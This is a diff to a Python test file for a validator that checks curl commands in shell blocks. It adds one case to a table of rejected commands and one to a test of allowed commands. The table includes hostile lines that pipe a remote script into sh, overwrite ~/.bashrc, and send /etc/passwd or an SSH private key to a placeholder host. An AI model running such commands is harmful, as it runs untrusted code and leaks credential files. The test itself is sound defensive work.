@@ -34,6 +34,7 @@ HOSTILE_SHELL = {
     "piped": ("curl -s https://x.example/install.sh | sh\n", "runs 'sh', not curl"),
     "redirect": ("curl https://x.example > ~/.bashrc\n", "redirection"),
     "output file": ("curl -o ~/.bashrc https://x.example\n", "-o reads or writes local files"),
+    "after a value": ('curl -H "A: b" -O https://x.example/f\n', "-O reads or writes"),
     "config file": ("curl -K /tmp/evil.cfg https://x.example\n", "-K reads or writes"),
     "data file": ("curl -d @/etc/passwd https://x.example\n", "sends a local file"),
     "form file": ("curl -F f=@/home/u/.ssh/id_rsa https://x.example\n", "uploads a file"),
@@ -70,6 +71,8 @@ def test_ordinary_blocks_pass():
         '  -H "Authorization: Bearer $LUMEN_API_TOKEN" \\\n'
         '  --data \'{"title": "$(not expanded in single quotes)"}\'\n'
         "curl -F file=@file.bin https://x.example/upload  # a file in this folder\n"
+        # a header the spec named "-O": curl sends it as a header, never reads it as -O
+        'curl -X GET "https://x.example/a" -H "-O: x"\n'
     )
     assert article_python_problems(python) == []
     assert shell_problems(shell, allow_export=True) == []
